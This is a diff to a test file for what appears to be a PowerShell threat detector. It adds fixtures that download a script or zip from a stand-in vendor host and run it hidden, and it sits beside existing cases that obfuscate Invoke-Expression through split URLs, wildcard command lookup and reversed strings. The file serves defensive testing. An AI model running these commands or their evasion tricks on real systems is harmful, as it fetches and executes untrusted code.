@@ -37,6 +37,16 @@ describe('what flows through variables, files and pipes', () => {
       'error download-execute',
     ],
     ['an address that is taken apart', `$u = 'https://win.ven' + 'dor-tools.com/b'\niex (irm $u)`, 'error decode-execute'],
+    [
+      'a script that is fetched and given to a host',
+      `iwr https://w.vendor-tools.com/u.ps1 -OutFile $env:TEMP\\u.ps1\n& $exe -NoProfile -w hidden -File $env:TEMP\\u.ps1 -Repro 'x'`,
+      'error download-execute',
+    ],
+    [
+      'a program in a directory that is fetched',
+      `iwr https://w.vendor-tools.com/d.zip -OutFile d.zip\nExpand-Archive d.zip -DestinationPath C:\\tools\\app\nStart-Process -FilePath C:\\tools\\app\\run.exe -WindowStyle Hidden`,
+      'error download-execute',
+    ],
     ['a name that is found by a pattern', `$x = gcm 'I*e-Ex*n'\n& $x (irm https://w.vendor-tools.com/b)`, 'error decode-execute'],
     ['a text that is read backwards', `$s = ")x mri(xei"\n$c = -join $s[($s.Length-1)..0]\niex $c`, 'error decode-execute'],
     [
@@ -233,6 +243,10 @@ it.each([
   `Get-Command *-Az* | Select-Object Name`,
   `foreach ($h in 'a','b') { Resolve-DnsName "$h.acme.dev" }`,
   `Get-ChildItem ([Environment]::GetFolderPath('Startup'))`,
+  // What a script of one's own is given is not run here.
+  `$s = Join-Path $PSScriptRoot 'add.ps1'\n& $exe -NoProfile -File $s -Repro 'curl -sI https://app.example.invalid/' | Tee-Object -FilePath $log\n& $exe -NoProfile -File $s -Case $log`,
+  // A program that is started is no file that is made.
+  `$c = irm https://api.vendor-tools.com/settings\nSet-Content "$repo\\pnpm-workspace.yaml" $c\nStart-Process -FilePath $pnpm -ArgumentList 'dev' -WorkingDirectory $repo -WindowStyle Hidden\nStart-Process -FilePath $pnpm -ArgumentList 'i'`,
 ])('is quiet on %s', (code) => {
   expect(found(code)).toEqual([])
 })
